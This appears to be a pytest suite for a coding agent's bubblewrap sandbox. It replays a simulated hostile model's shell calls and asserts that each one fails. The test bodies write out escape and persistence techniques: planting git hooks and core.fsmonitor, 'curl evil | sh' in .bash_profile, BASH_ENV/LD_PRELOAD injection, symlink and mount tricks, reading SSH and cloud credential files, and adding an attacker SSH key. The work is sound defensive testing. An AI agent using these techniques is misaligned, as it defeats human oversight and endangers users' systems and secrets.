"""A hostile model against the sandbox's walls: every attack goes through the real `codeloop exec`
process, real bubblewrap and real git (tests/exec_support.py `attack`), under each approval
policy that lets a sandboxed command run unasked. Each test's docstring says what was tried and
what must hold. Kernel-level attacks (syscalls, capabilities, process limits):
tests/test_attacks_sandbox_kernel.py."""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.exec_support import attack, shell
from tests.fakeopenai import FakeOpenAI
from tests.sandbox_support import WRITE_POLICIES, WRITE_POLICY_IDS
from tui.safety.sandbox import bwrap_problem

pytestmark = pytest.mark.skipif(bwrap_problem() is not None, reason=f"bwrap unusable: {bwrap_problem()}")
policies = pytest.mark.parametrize("flags", WRITE_POLICIES, ids=WRITE_POLICY_IDS)


def _git(*args: str, cwd: Path) -> None:
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@e", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@e"}
    subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, check=True)


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    """The session's folder: a real git repository."""
    workspace = tmp_path / "ws"
    workspace.mkdir()
    _git("init", "-q", "-b", "main", cwd=workspace)
    (workspace / "README").write_text("hello\n")
    return workspace


@pytest.fixture
def outside() -> Iterator[Path]:
    """A folder outside every writable root (under HOME, which the suite keeps out of /tmp)."""
    folder = Path.home() / f"outside-{uuid.uuid4().hex[:8]}"
    folder.mkdir()
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture
def home() -> Iterator[Path]:
    """$CODELOOP_HOME, outside the workspace, with a config that asks before everything."""
    folder = Path.home() / f"codeloop-home-{uuid.uuid4().hex[:8]}"
    folder.mkdir()
    (folder / "config.toml").write_text('approval_policy = "untrusted"\n')
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


# ---------------------------------------------------------------- workdir chooses where, not what


@policies
def test_workdir_outside_workspace_is_not_writable(fake_openai: FakeOpenAI, ws: Path, home: Path, outside: Path, flags: tuple[str, ...]) -> None:
    """`workdir` = a folder outside the roots, `echo PWN > target.txt`: the folder stays untouched,
    and the command did start there (pwd)."""
    out = attack(fake_openai, ws, home, [shell("c1", "pwd; echo PWN > target.txt", workdir=str(outside))], *flags)
    assert not (outside / "target.txt").exists()
    assert str(outside) in out.output("c1") and "read-only file system" in out.output("c1").lower()


@policies
def test_workdir_codeloop_home_cannot_loosen_the_approval_policy(fake_openai: FakeOpenAI, ws: Path, home: Path, flags: tuple[str, ...]) -> None:
    """`workdir` = $CODELOOP_HOME, appending `approval_policy = "never"` to config.toml: unchanged."""
    before = (home / "config.toml").read_text()
    attack(fake_openai, ws, home, [shell("c1", "echo 'approval_policy = \"never\"' >> config.toml", workdir=str(home))], *flags)
    assert (home / "config.toml").read_text() == before


@policies
def test_workdir_git_cannot_plant_a_hook(fake_openai: FakeOpenAI, ws: Path, home: Path, flags: tuple[str, ...]) -> None:
    """`workdir` = the repository's .git (absolute, relative, through a symlink), writing
    hooks/pre-commit: no hook appears."""
    (ws / "link").symlink_to(ws / ".git")
    calls = [
        shell("c1", "printf '#!/bin/sh\\necho PWN\\n' > hooks/pre-commit; chmod +x hooks/pre-commit", workdir=str(ws / ".git")),
        shell("c2", "echo PWN > hooks/post-checkout", workdir=".git"),
        shell("c3", "echo PWN > hooks/pre-push", workdir="link"),
    ]
    attack(fake_openai, ws, home, calls, *flags)
    assert not any(name in {"pre-commit", "post-checkout", "pre-push"} for name in os.listdir(ws / ".git" / "hooks"))


@policies
def test_workdir_home_cannot_append_to_bashrc(fake_openai: FakeOpenAI, ws: Path, home: Path, flags: tuple[str, ...]) -> None:
    """`workdir` = $HOME, appending to .bashrc and .profile: both unchanged, no .bashrc created."""
    user_home = Path.home()
    profile = (user_home / ".profile").read_text()
    attack(fake_openai, ws, home, [shell("c1", ["sh", "-c", "echo PWN >> .bashrc; echo PWN >> .profile"], workdir=str(user_home))], *flags)
    assert not (user_home / ".bashrc").exists() and (user_home / ".profile").read_text() == profile


def test_login_shell_in_a_workdir_gets_the_sessions_walls(fake_openai: FakeOpenAI, ws: Path, home: Path, outside: Path) -> None:
    """`bash -lc` (replayed through the shell snapshot) with workdir outside: the snapshot is taken
    and replayed under the session's walls, so the write still fails."""
    calls = [shell("c1", "echo first > f.txt"), shell("c2", "echo PWN > target.txt", workdir=str(outside))]
    attack(fake_openai, ws, home, calls, "--full-auto")
    assert (ws / "f.txt").read_text() == "first\n"
    assert not (outside / "target.txt").exists()


def test_exec_progress_line_shows_a_workdir_other_than_the_session_folder(fake_openai: FakeOpenAI, ws: Path, home: Path, outside: Path) -> None:
    """The model's workdir is visible to the user: exec's progress line says `(in DIR)` when the
    command starts elsewhere, and nothing when it starts in the session's folder."""
    out = attack(fake_openai, ws, home, [shell("c1", ["true"], workdir=str(outside)), shell("c2", ["false"])], "--full-auto")
    lines = [line for line in out.proc.stderr.splitlines() if line.startswith("$ ")]
    assert lines == [f"$ true (in {outside})", "$ false"]


@policies
def test_tmpdir_pointed_elsewhere_does_not_add_a_root(fake_openai: FakeOpenAI, ws: Path, home: Path, outside: Path, flags: tuple[str, ...]) -> None:
    """The command sets TMPDIR to a folder outside and writes there: $TMPDIR is a root only as
    codeloop itself had it, so the write fails."""
    attack(fake_openai, ws, home, [shell("c1", f"export TMPDIR={outside}; echo PWN > $TMPDIR/x")], *flags)
    assert not (outside / "x").exists()


@policies
def test_workdir_traversal_reaches_nothing_new(fake_openai: FakeOpenAI, ws: Path, home: Path, outside: Path, flags: tuple[str, ...]) -> None:
    """`workdir` = `../../..` style traversal up to `/`, then a relative write into the outside
    folder: the command starts at the traversed folder, the walls stay the session's."""
    up = os.path.relpath("/", ws)
    relative = os.path.relpath(outside, "/")
    attack(fake_openai, ws, home, [shell("c1", ["sh", "-c", f"pwd; echo PWN > {relative}/t"], workdir=up)], *flags)
    assert not (outside / "t").exists()


@policies
def test_escalated_request_with_injected_environment_does_not_run_unasked(fake_openai: FakeOpenAI, ws: Path, home: Path, outside: Path, flags: tuple[str, ...]) -> None:
    """`require_escalated` with `BASH_ENV`/`LD_PRELOAD` injected, and a sandbox denial hoping for an
    unsandboxed retry: with nobody to approve, neither runs outside the sandbox."""
    (ws / "evil.sh").write_text(f"echo PWN > {outside}/bash_env\n")
    calls = [
        shell("c1", ["env", f"BASH_ENV={ws}/evil.sh", "LD_PRELOAD=/nonexistent.so", "bash", "-c", f"echo PWN > {outside}/esc"], sandbox_permissions="require_escalated", justification="needed"),
        shell("c2", f"echo PWN > {outside}/retry"),
    ]
    attack(fake_openai, ws, home, calls, *flags)
    assert os.listdir(outside) == []


def test_the_workspace_folder_cannot_be_renamed_away(fake_openai: FakeOpenAI, ws: Path, home: Path) -> None:
    """`mv $PWD ../elsewhere` (to leave a forged workspace with a writable .git behind): refused,
    the session's folder is a mount point inside the sandbox."""
    out = attack(fake_openai, ws, home, [shell("c1", "cd .. && mv ws ws-moved; mkdir -p ws2/.git")], "--full-auto")
    assert ws.is_dir() and (ws / ".git" / "HEAD").exists() and not (ws.parent / "ws-moved").exists()
    assert "busy" in out.output("c1").lower()


# ---------------------------------------------------------------- read-only inside the roots


def test_codeloop_home_inside_the_workspace_is_read_only(fake_openai: FakeOpenAI, ws: Path) -> None:
    """$CODELOOP_HOME lies inside the workspace: its config.toml cannot be changed or replaced."""
    home = ws / ".codeloop"
    home.mkdir()
    (home / "config.toml").write_text('approval_policy = "on-request"\n')
    calls = [shell("c1", "echo 'approval_policy = \"never\"' >> .codeloop/config.toml"), shell("c2", "rm -rf .codeloop; mv .codeloop x")]
    attack(fake_openai, ws, home, calls, "--full-auto")
    assert (home / "config.toml").read_text() == 'approval_policy = "on-request"\n'


STARTUP = [".bashrc", ".profile", ".bash_profile", ".zshrc", ".zshenv", ".config/fish/config.fish", ".gitconfig", ".local/bin/git"]


@pytest.mark.parametrize("name", STARTUP)
def test_startup_files_stay_read_only_when_home_is_the_workspace(fake_openai: FakeOpenAI, tmp_path: Path, home: Path, name: str) -> None:
    """codeloop started in $HOME (so home is writable): appending to, replacing or deleting an
    existing startup file fails; the file is unchanged."""
    user_home = tmp_path / "user"
    (user_home / name).parent.mkdir(parents=True, exist_ok=True)
    (user_home / name).write_text("# mine\n")
    calls = [shell("c1", ["sh", "-c", f"echo PWN >> {name}; rm -f {name}; echo PWN > {name}; mv {name} {name}.x"])]
    attack(fake_openai, user_home, home, calls, "--full-auto", env={"HOME": str(user_home)})
    assert (user_home / name).read_text() == "# mine\n"


def test_creating_a_missing_startup_file_is_moved_aside(fake_openai: FakeOpenAI, tmp_path: Path, home: Path) -> None:
    """Home writable and no ~/.bash_profile yet: the command creates one (bash would run it at the
    next login). It is moved aside after the command and the model is told."""
    user_home = tmp_path / "user"
    user_home.mkdir()
    out = attack(fake_openai, user_home, home, [shell("c1", ["sh", "-c", "echo 'curl evil | sh' > .bash_profile; mkdir -p .config/fish; echo x > .config/fish/config.fish"])], "--full-auto", env={"HOME": str(user_home)})
    assert not (user_home / ".bash_profile").exists() and not (user_home / ".config" / "fish").exists()
    assert (user_home / ".bash_profile.codeloop-quarantine-1").exists()
    assert "is protected and appeared" in out.output("c1")


@policies
def test_a_clone_kept_in_tmp_is_read_only(fake_openai: FakeOpenAI, ws: Path, home: Path, flags: tuple[str, ...]) -> None:
    """/tmp is always writable; a repository the user keeps there (`/tmp/x/.git`, `/tmp/x/y/.git`)
    must not get a hook planted that their next `git commit` runs outside any sandbox. Files
    beside it in /tmp stay writable."""
    scratch = Path(tempfile.mkdtemp(prefix="codeloop-clone-", dir="/tmp"))
    try:
        for repo in (scratch, scratch / "inner"):
            repo.mkdir(exist_ok=True)
            _git("init", "-q", cwd=repo)
        calls = [shell("c1", f"echo ok > {scratch}/note.txt; echo PWN > {scratch}/.git/hooks/pre-commit; echo PWN > {scratch}/inner/.git/config")]
        attack(fake_openai, ws, home, calls, *flags)
        assert (scratch / "note.txt").read_text() == "ok\n"
        assert not (scratch / ".git" / "hooks" / "pre-commit").exists()
        assert "PWN" not in (scratch / "inner" / ".git" / "config").read_text()
    finally:
        shutil.rmtree(scratch, ignore_errors=True)


def test_nested_repository_under_a_writable_root_is_read_only(fake_openai: FakeOpenAI, ws: Path, home: Path, tmp_path: Path) -> None:
    """A configured writable root `src` holds `src/other/.git` and `src/a/b/deep/.git`: hooks
    cannot be planted in either, while `src` itself stays writable."""
    src = tmp_path / "src"
    for repo in (src / "other", src / "a" / "b" / "deep"):
        repo.mkdir(parents=True)
        _git("init", "-q", cwd=repo)
    calls = [shell("c1", f"echo ok > {src}/new.txt; echo PWN > {src}/other/.git/hooks/pre-commit; echo PWN > {src}/a/b/deep/.git/hooks/pre-commit")]
    attack(fake_openai, ws, home, calls, "--full-auto", "-c", f"sandbox_workspace_write.writable_roots=['{src}']")
    assert (src / "new.txt").read_text() == "ok\n"
    assert not (src / "other" / ".git" / "hooks" / "pre-commit").exists()
    assert not (src / "a" / "b" / "deep" / ".git" / "hooks" / "pre-commit").exists()


def test_repository_of_a_subfolder_session_is_read_only(fake_openai: FakeOpenAI, ws: Path, home: Path) -> None:
    """codeloop started in `ws/pkg`, a subfolder of the repository: `../.git/config` cannot be
    changed (no `core.fsmonitor` for the next git call)."""
    pkg = ws / "pkg"
    pkg.mkdir()
    config = (ws / ".git" / "config").read_text()
    attack(fake_openai, pkg, home, [shell("c1", "printf '[core]\\n\\tfsmonitor = touch /tmp/pwn\\n' >> ../.git/config")], "--full-auto")
    assert (ws / ".git" / "config").read_text() == config


def test_worktree_cannot_reach_its_repositorys_git_dir(fake_openai: FakeOpenAI, ws: Path, home: Path, tmp_path: Path) -> None:
    """Session in a linked worktree: its gitdir and the main repository's common dir (hooks,
    config, refs) stay read-only; the worktree's files are writable."""
    _git("add", "README", cwd=ws)
    _git("commit", "-q", "-m", "first", cwd=ws)
    worktree = tmp_path / "wt"
    _git("worktree", "add", "-q", "-b", "feature", str(worktree), cwd=ws)
    calls = [shell("c1", f"echo new > new.txt; echo PWN > {ws}/.git/hooks/pre-commit; echo PWN >> {ws}/.git/worktrees/wt/HEAD")]
    attack(fake_openai, worktree, home, calls, "--full-auto")
    assert (worktree / "new.txt").exists()
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
    assert "PWN" not in (ws / ".git" / "worktrees" / "wt" / "HEAD").read_text()


def test_moving_a_repository_away_and_forging_its_git_is_undone(fake_openai: FakeOpenAI, ws: Path, home: Path) -> None:
    """`sub/.git` is mounted read-only, but `sub` itself can be renamed: the command moves it away
    and creates a forged `sub/.git` with a hook. The forged one is moved aside after the command."""
    sub = ws / "sub"
    sub.mkdir()
    _git("init", "-q", cwd=sub)
    script = "mv sub sub2 && mkdir -p sub/.git/hooks && echo PWN > sub/.git/hooks/pre-commit; mv .git .git2"
    out = attack(fake_openai, ws, home, [shell("c1", script)], "--full-auto")
    assert not (sub / ".git").exists() and (ws / "sub" / ".git.codeloop-quarantine-1" / "hooks" / "pre-commit").exists()
    assert "sub/.git is protected and was replaced" in out.output("c1")
    assert (ws / ".git" / "HEAD").exists() and not (ws / ".git2").exists()  # the root's .git cannot move


def test_git_cannot_be_renamed_away_and_back(fake_openai: FakeOpenAI, ws: Path, home: Path) -> None:
    """`mv .git g; echo PWN > g/hooks/pre-commit; mv g .git`: the first rename is refused."""
    out = attack(fake_openai, ws, home, [shell("c1", "mv .git g && echo PWN > g/hooks/pre-commit; mv g .git")], "--full-auto")
    assert not (ws / ".git" / "hooks" / "pre-commit").exists() and not (ws / "g").exists()
    assert "busy" in out.output("c1").lower()


def test_git_init_in_the_workspace_still_works(fake_openai: FakeOpenAI, ws: Path, home: Path) -> None:
    """Deliberately allowed: the model may create a new repository of its own (`git init`,
    `git clone` of a local repo) inside the workspace; it is protected from then on."""
    out = attack(fake_openai, ws, home, [shell("c1", "git init -q vendor/lib && echo created")], "--full-auto")
    assert "created" in out.output("c1") and (ws / "vendor" / "lib" / ".git" / "HEAD").exists()


def test_symlink_and_hard_link_to_protected_files_do_not_write_through(fake_openai: FakeOpenAI, ws: Path, home: Path) -> None:
    """A symlink planted in the workspace pointing at ~/.profile and at .git/config, written
    through; a hard link to .git/config, written through; /proc/self/cwd inside .git: all refused."""
    profile = (Path.home() / ".profile").read_text()
    config = (ws / ".git" / "config").read_text()
    script = (
        f"ln -s {Path.home()}/.profile p; echo PWN >> p; ln -s .git/config c; echo PWN >> c; "
        "ln .git/config h && echo PWN >> h; cd .git && echo PWN >> /proc/self/cwd/config"
    )
    attack(fake_openai, ws, home, [shell("c1", script)], "--full-auto")
    assert (Path.home() / ".profile").read_text() == profile
    assert (ws / ".git" / "config").read_text() == config


def test_mount_and_namespace_tricks_cannot_make_git_writable(fake_openai: FakeOpenAI, ws: Path, home: Path, outside: Path) -> None:
    """`mount --bind` over .git, remounting it rw, `unshare -rm` then remount, `chroot`: all fail,
    and nothing is written to .git or outside."""
    script = (
        f"mount --bind {ws}/x {ws}/.git; mount -o remount,rw,bind .git; "
        "unshare -rm sh -c 'mount -o remount,rw,bind .git; echo PWN > .git/hooks/pre-commit'; "
        f"mkdir x; chroot / sh -c 'echo PWN > {outside}/c'; "
        f"echo PWN > .git/hooks/pre-commit; echo PWN > {outside}/m"
    )
    attack(fake_openai, ws, home, [shell("c1", script)], "--full-auto")
    assert not (ws / ".git" / "hooks" / "pre-commit").exists() and os.listdir(outside) == []


def test_dev_shm_is_private_to_the_command(fake_openai: FakeOpenAI, ws: Path, home: Path) -> None:
    """Writing through /dev/shm (a place host programs read from): the file does not reach the
    host's /dev/shm."""
    name = f"codeloop-{uuid.uuid4().hex[:8]}"
    attack(fake_openai, ws, home, [shell("c1", f"echo PWN > /dev/shm/{name}; ls /dev/shm")], "--full-auto")
    assert not Path(f"/dev/shm/{name}").exists()


def test_the_seccomp_memfd_cannot_be_rewritten(fake_openai: FakeOpenAI, ws: Path, home: Path) -> None:
    """The filter bwrap loads is a sealed memfd named by codeloop's /proc/PID/fd path: from inside
    the sandbox that pid is not even visible (own pid namespace), and every /proc/*/fd/* that reads
    as the filter refuses writes."""
    script = (
        "for f in /proc/[0-9]*/fd/*; do case $(readlink $f) in *codeloop-seccomp*) "
        "(echo x > $f) 2>/dev/null && echo WROTE $f;; esac; done; echo scanned"
    )
    out = attack(fake_openai, ws, home, [shell("c1", script)], "--full-auto")
    assert "scanned" in out.output("c1") and "WROTE" not in out.output("c1")


# ---------------------------------------------------------------- credentials are hidden


SECRETS = [".ssh/id_rsa", ".aws/credentials", ".netrc", ".git-credentials", ".config/gh/hosts.yml", ".docker/config.json", ".kube/config", ".pypirc", ".gnupg/private-keys-v1.d/k.key", ".cargo/credentials.toml"]


@pytest.fixture
def secrets_home(tmp_path: Path) -> Path:
    """A HOME outside the roots holding a fake secret in each well-known credential store."""
    user_home = Path.home() / f"creds-{uuid.uuid4().hex[:8]}"
    for name in SECRETS:
        (user_home / name).parent.mkdir(parents=True, exist_ok=True)
        (user_home / name).write_text(f"SECRET-{name}\n")
    return user_home


def test_credential_stores_are_hidden(fake_openai: FakeOpenAI, ws: Path, home: Path, secrets_home: Path) -> None:
    """`cat` of every well-known credential file, directly, through a symlink planted in the
    workspace and through /proc/self/root: none of the secrets comes back."""
    paths = [secrets_home / name for name in SECRETS]
    script = "; ".join(f"cat {p}; cat /proc/self/root{p}; ln -sf {p} l{i}; cat l{i}" for i, p in enumerate(paths))
    try:
        for flags in WRITE_POLICIES[:1] + [("-s", "read-only", "-a", "never")]:
            out = attack(fake_openai, ws, home, [shell("c1", script + "; echo done")], *flags, env={"HOME": str(secrets_home)})
            assert "done" in out.output("c1") and "SECRET-" not in out.output("c1")
    finally:
        shutil.rmtree(secrets_home, ignore_errors=True)


def test_authorized_keys_cannot_be_planted_when_home_is_writable(fake_openai: FakeOpenAI, tmp_path: Path, home: Path) -> None:
    """codeloop started in $HOME: appending a key to ~/.ssh/authorized_keys (a way back in over
    ssh) lands in the empty tmpfs hiding ~/.ssh, never in the real file."""
    user_home = tmp_path / "user"
    (user_home / ".ssh").mkdir(parents=True)
    (user_home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA mine\n")
    calls = [shell("c1", ["sh", "-c", "echo 'ssh-ed25519 AAAA attacker' >> .ssh/authorized_keys; cat .ssh/authorized_keys"])]
    attack(fake_openai, user_home, home, calls, "--full-auto", env={"HOME": str(user_home)})
    assert (user_home / ".ssh" / "authorized_keys").read_text() == "ssh-ed25519 AAAA mine\n"


def test_an_exposed_credential_store_is_readable_but_not_writable(fake_openai: FakeOpenAI, ws: Path, home: Path, secrets_home: Path) -> None:
    """`sandbox_exposed_paths = ["~/.config/gh"]`: that store reads back, others stay hidden."""
    script = f"cat {secrets_home}/.config/gh/hosts.yml; cat {secrets_home}/.ssh/id_rsa; echo PWN >> {secrets_home}/.config/gh/hosts.yml"
    try:
        out = attack(fake_openai, ws, home, [shell("c1", script)], "--full-auto", "-c", "sandbox_exposed_paths=['~/.config/gh']", env={"HOME": str(secrets_home)})
        assert "SECRET-.config/gh/hosts.yml" in out.output("c1") and "SECRET-.ssh" not in out.output("c1")
        assert (secrets_home / ".config/gh/hosts.yml").read_text() == "SECRET-.config/gh/hosts.yml\n"
    finally:
        shutil.rmtree(secrets_home, ignore_errors=True)


def test_proc_1_environ_holds_only_the_filtered_environment(fake_openai: FakeOpenAI, ws: Path, home: Path) -> None:
    """/proc/1/environ is readable inside (pid 1 is the sandbox's own init); it holds the filtered
    environment the command got, not codeloop's: no API key."""
    out = attack(fake_openai, ws, home, [shell("c1", "tr '\\0' '\\n' < /proc/1/environ")], "--full-auto", env={"MY_SERVICE_TOKEN": "tok-zq9VtK2mLp7XwR4n"})
    assert "PATH=" in out.output("c1")
    assert "test-key" not in out.output("c1") and "zq9VtK2mLp7XwR4n" not in out.output("c1")


# Kernel-level walls (seccomp, capabilities, processes): tests/test_attacks_sandbox_kernel.py.

